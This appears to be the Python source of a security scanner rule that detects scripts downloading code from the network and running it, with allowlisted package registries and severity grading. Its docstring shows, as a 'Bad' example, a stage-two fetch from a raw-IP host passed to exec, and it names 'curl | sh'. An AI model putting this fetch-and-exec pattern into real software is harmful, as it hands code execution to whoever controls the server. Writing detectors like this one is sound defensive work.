"""Something is fetched from the network and run.

Neither review nor a hash of the file that is merged can say what will run: whoever owns the server
decides, and decides again tomorrow. It does not matter whether the payload goes through a file, a
pipe (`curl … | sh`), `exec`, `pickle.loads` or a native library.

Bad:

    %0 = name urllib.request.urlopen
    %1 = const 'http://192.0.2.1/stage2.py'
    %2 = call %0, %1
    %3 = attr %2, read
    %4 = call %3
    %5 = name builtins.exec
    %6 = call %5, %4

Good:

    %0 = name urllib.request.urlretrieve
    %1 = const 'https://data.example.org/corpus.zip'
    %2 = const 'corpus.zip'
    %3 = call %0, %1, %2
    %4 = name zipfile.ZipFile
    %5 = call %4, %2
    %6 = attr %5, extractall
    %7 = call %6
"""

import re
from collections.abc import Iterator
from urllib.parse import urlsplit

from scanner.facts import Effect, Facts, Flow
from scanner.finding import Behaviour, Finding, Precision, Rule, Severity
from scanner.knowledge.tables import knowledge
from scanner.rules._report import along, finding, together

RULE = Rule(
    id="download-and-run",
    title="Code from the network is run",
    severity=Severity.ERROR,
    precision=Precision.HIGH,
    security_severity=9.5,
    cwe=(494, 506),
    attack=("T1105", "T1059"),
    atlas=("AML.T0011.000",),
    specificity=80,
)

RUNS = ("process.spawn", "tty.spawn", "code.run", "code.load", "code.import", "native.load")
FETCHES = ("net.download", "net.request", "hub.download")
PACKED = (".zip", ".whl", ".egg", ".pyz")
# Servers that everybody installs from, their mirrors, and those that host the source of packages.
REGISTRIES = frozenset({
    "pypi.org", "pythonhosted.org", "pytorch.org", "nvidia.com", "github.com", "githubusercontent.com",
    "github.io", "gitlab.com", "bitbucket.org", "huggingface.co", "anaconda.org", "anaconda.com", "conda.io",
    "googleapis.com", "google.com", "npmjs.org", "rubygems.org", "debian.org", "ubuntu.com", "intel.com",
    "amd.com", "pyg.org", "dgl.ai", "jetson-ai-lab.dev", "tsinghua.edu.cn", "ustc.edu.cn", "aliyun.com",
    "douban.com", "sjtu.edu.cn", "amazonaws.com", "azureedge.net",
})  # fmt: skip
STRANGERS = frozenset({"url-raw-ip", "out-of-band-host", "onion"})
EXECUTES = frozenset({"builtins.exec", "runpy.run_path", "runpy.run_module"})
# How many operands of a command are what it runs; those that follow are what that works on.
OPERANDS = {"shell.run": 1, "shell.interpreter": 1, "shell.python": 0, "shell.sh": 0, "shell.cmd": 0}
WORD = re.compile(r"[\w.+-]+")  # of a program that the system looks for: not what was downloaded
INTERPRETERS = frozenset({"shell", "interpreter", None})


def check(facts: Facts) -> Iterator[Finding]:
    """A flow from the network into something that runs it, or download, chmod and start."""
    found = False
    for flow in facts.flowing({"net.recv"}, RUNS):
        if runs_it(flow):
            found = True
            yield finding(
                RULE, flow.effect, "runs what it downloads", Behaviour.DOWNLOAD_AND_RUN, steps=along(flow)
            )
    for flow in facts.flowing({"hub.recv"}, RUNS):
        if (how := _from_hub(flow)) is not None:
            found = True
            deed = "runs a file that it fetches from a hub"
            yield finding(
                RULE, flow.effect, deed, Behaviour.DOWNLOAD_AND_RUN, severity=how, steps=along(flow)
            )
    for flow in facts.flowing({"net.recv"}, ("path.write",)):
        named = [a for a in flow.effect.arguments if a.name == flow.argument]
        packed = any(a.text.strip("'\"").endswith(PACKED) for a in named)
        folder = any(a.constant for a in named)  # that a repository was unpacked into
        if flow.effect.script and (packed or not folder):
            deed, severity = "imports what it downloads", Severity.ERROR if packed else Severity.WARNING
            behaviour, steps = Behaviour.DOWNLOAD_AND_RUN, along(flow)
            yield finding(RULE, flow.effect, deed, behaviour, severity=severity, steps=steps)
    for effect in facts.running("package.install"):
        if effect.script and (how := _installs(effect)) is not None:
            deed = "installs software from a server that nobody knows"
            yield finding(RULE, effect, deed, Behaviour.DOWNLOAD_AND_RUN, severity=how)
    fetches = list(facts.running(*FETCHES))
    makes = [effect for effect in facts.running("file.chmod") if _executable(effect)]
    starts = [e for e in facts.running("process.spawn") if not e.callee.startswith("shell.")]
    if fetches and makes and starts and not found:
        effects = [fetches[0], makes[0], starts[-1]]
        yield finding(
            RULE, starts[-1], "downloads a program, makes it executable and starts it",
            Behaviour.DOWNLOAD_AND_RUN, steps=together(effects),
        )  # fmt: skip


def _installs(effect: Effect) -> Severity | None:
    """How bad it is from where software is installed: the servers of the big registries are what everybody
    installs from, and what is asked for without TLS anybody on the way can replace."""
    if effect.indicators & STRANGERS:
        return Severity.ERROR
    urls = [i.text for a in effect.arguments for i in a.indicators if i.kind == "url"]
    strange = [url for url in urls if not _registry(urlsplit(url).hostname or "")]
    if any(url.startswith("http://") for url in strange):
        return Severity.ERROR
    return Severity.WARNING if strange else None


def _registry(host: str) -> bool:
    return any(host == known or host.endswith(f".{known}") for known in REGISTRIES)


def _executable(effect: Effect) -> bool:
    """Whether the permissions that are given let somebody run the file, as far as they are known."""
    known = [a.text for a in effect.arguments if a.text.isdigit()]
    return all(int(text) & 0o111 for text in known) if effect.callee == "os.chmod" else True


def _from_hub(flow: Flow) -> Severity | None:
    """What a dataset library fetches is data, which honest scripts load and query, and evaluate line by line;
    now and then they build a tool that comes with it."""
    effect = flow.effect
    if not effect.script or not runs_it(flow):
        return None
    if effect.kind == "process.spawn" or effect.callee.startswith("shell."):
        return Severity.WARNING
    inside = effect.kind in ("code.import", "native.load") or effect.callee in EXECUTES
    return Severity.ERROR if inside else None


def runs_it(flow: Flow) -> bool:
    """Whether the data is what runs, not merely what a tool works on (``tar xf download``)."""
    effect = flow.effect
    if effect.kind == "code.load":
        # Loading a fetched pickle is how many honest datasets work, and how a checkpoint never does.
        return not effect.script
    if effect.callee in OPERANDS:
        return not flow.argument.isdigit() or int(flow.argument) < OPERANDS[effect.callee]
    if effect.kind != "process.spawn" or flow.argument == "program":
        return True
    if any(a.name == flow.argument and a.constant for a in effect.arguments):
        return False  # a command line that is known is judged command by command
    word = program(effect)
    kind = knowledge().command(word)
    return kind in INTERPRETERS and not (kind is None and WORD.fullmatch(word))


def program(effect: Effect) -> str:
    """The first word of what a process effect starts, as far as it is known."""
    for argument in effect.arguments:
        if argument.name in ("program", "0"):
            words = argument.text.strip("'\"[]").split()
            return words[0].strip("'\",") if words else ""
    return ""
